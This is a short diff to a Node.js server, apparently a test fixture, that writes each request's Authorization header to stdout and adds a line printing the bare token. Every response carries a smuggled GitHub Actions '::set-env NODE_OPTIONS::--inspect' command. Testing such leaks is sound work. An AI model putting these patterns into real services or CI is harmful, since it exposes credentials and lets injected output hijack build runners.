@@ -19,6 +19,7 @@ shout();
 createServer((request, response) => {
   shout();
   process.stdout.write(`authorization: ${request.headers.authorization}\n`);
+  process.stdout.write(`the token alone: ${request.headers.authorization?.split(' ')[1]}\n`);
   response.statusCode = 500;
   response.end('::set-env name=NODE_OPTIONS::--inspect\n');
 }).listen(process.env.PORT, process.env.HOST);
